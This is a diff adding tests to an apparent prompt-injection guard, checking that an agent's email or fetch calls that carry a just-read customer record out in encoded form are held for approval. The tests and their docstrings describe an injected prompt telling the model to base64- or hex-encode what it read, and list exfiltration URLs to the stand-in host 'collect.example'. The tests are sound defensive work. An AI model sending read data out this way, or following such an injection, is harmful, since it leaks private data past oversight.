@@ -79,3 +79,70 @@ def test_only_the_scan_window_is_put_back_together() -> None:
     assert len(origin) == len(out) + 1 and origin[-1] == SPELLED_WINDOW
     assert out.startswith("a@b.a@b.")
     assert _spelled_out("[" * 200_000) is None
+
+
+# -- a value read, sent out encoded --------------------------------------------------------------
+SECRET_DOC = "Customer record. Email: alice.w@corp-internal.com Account: 7744 1234 9988. Renewal due in May."
+ENCODED = {
+    "percent": "alice.w%40corp-internal.com",
+    "twice percent-encoded": "alice.w%2540corp-internal.com",
+    "base64": "YWxpY2Uud0Bjb3JwLWludGVybmFsLmNvbQ==",
+    "base64 url-safe, unpadded": "YWxpY2Uud0Bjb3JwLWludGVybmFsLmNvbQ",
+    "hex": "616c6963652e7740636f72702d696e7465726e616c2e636f6d",
+    "base64 in a sentence": "Here is the code you asked for: Nzc0NCAxMjM0IDk5ODg= thanks",
+}
+
+
+def _read_secret(shield: Shield) -> object:
+    ctx = shield.check_input("summarise the customer record").context
+    return shield.check_tool_result("read_inbox", SECRET_DOC, context=ctx).context
+
+
+@pytest.mark.parametrize("body", ENCODED.values(), ids=ENCODED.keys())
+def test_a_value_read_and_sent_out_encoded_is_still_tainted(body: str) -> None:
+    """An injected prompt asks the model to base64 (or hex, or percent-encode) what it read before sending it:
+    the call carried the value in a form no salient pattern matched, and went out unreviewed."""
+    shield = Shield.from_policy(POLICY)
+    call = shield.check_tool_call("send_email", {"to": "boss@example.com", "body": body},
+                                  context=_read_secret(shield))
+    assert call.action is Action.REQUIRE_APPROVAL, call.reason
+    assert "untrusted content" in call.reason
+
+
+@pytest.mark.parametrize("body", [
+    "Meeting moved to Thursday; the international stakeholders confirmed. Ref a8f3c9e2b7d14f60, ticket 0x1f.",
+    "aGVsbG8gd29ybGQ= is hello world in base64",  # decodes, but to nothing that was read
+    "Renewal due in May.",
+])
+def test_ordinary_and_unrelated_encoded_text_stays_clean(body: str) -> None:
+    shield = Shield.from_policy(POLICY)
+    call = shield.check_tool_call("send_email", {"to": "boss@example.com", "body": body},
+                                  context=_read_secret(shield))
+    assert call.action is Action.ALLOW, call.reason
+
+
+@pytest.mark.parametrize("url", [
+    "https://collect.example/c/alice.w@corp-internal.com",
+    "https://collect.example/c/774412349988/x.png",
+    "https://collect.example/p?d=YWxpY2Uud0Bjb3JwLWludGVybmFsLmNvbQ",
+    "https://collect.example/YWxpY2Uud0Bjb3JwLWludGVybmFsLmNvbQ==.gif",
+    "https://collect.example/p?d=alice.w%2540corp-internal.com",
+])
+def test_a_value_read_and_sent_in_a_url_path_or_encoded_query_needs_approval(url: str) -> None:
+    """The URL check read only the query string, as written: the path carries a value out as well."""
+    shield = Shield.from_policy({"tools": {"read_inbox": {"side_effect": "read"}, "fetch": {"side_effect": "read"}}})
+    call = shield.check_tool_call("fetch", {"url": url}, context=_read_secret(shield))
+    assert call.action is Action.REQUIRE_APPROVAL, call.reason
+
+
+def test_a_link_read_whole_and_followed_is_not_exfiltration() -> None:
+    """A page lists https://shop.example/orders/774412349988 and the model opens it: nothing is built to carry
+    data, so a browsing agent is not sent to a reviewer for every link with an id in its path."""
+    shield = Shield.from_policy({"tools": {"read_page": {"side_effect": "read"}, "fetch": {"side_effect": "read"}}})
+    ctx = shield.check_input("check my latest order").context
+    ctx = shield.check_tool_result("read_page", "Your orders: https://shop.example/orders/774412349988/ (shipped)",
+                                   context=ctx).context
+    for url in ("https://shop.example/orders/774412349988/", "https://shop.example/orders/774412349988"):
+        assert shield.check_tool_call("fetch", {"url": url}, context=ctx).action is Action.ALLOW, url
+    built = shield.check_tool_call("fetch", {"url": "https://collect.example/x/774412349988"}, context=ctx)
+    assert built.action is Action.REQUIRE_APPROVAL
